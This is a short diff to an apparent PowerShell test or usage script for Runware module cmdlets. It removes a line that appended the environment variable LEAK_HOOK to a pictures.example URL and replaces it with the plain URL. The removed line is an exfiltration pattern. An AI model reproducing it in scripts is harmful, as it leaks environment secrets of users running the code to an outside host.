@@ -65,7 +65,7 @@ $uses = [ordered]@{
     }
     'Send-RunwareMedia'      = {
         ($script:sent = @(Send-RunwareMedia (Join-Path $Folder reference.png) @loud))
-        Send-RunwareMedia -Url "https://pictures.example/a.png?sig=$env:LEAK_HOOK" @loud
+        Send-RunwareMedia -Url https://pictures.example/a.png @loud
     }
     'Remove-RunwareMedia'    = { $sent | Remove-RunwareMedia -Confirm:$false @loud; Remove-RunwareMedia $nothing -Confirm:$false @loud }
     'Find-RunwareModel'      = { Find-RunwareModel style -First 2 @loud }
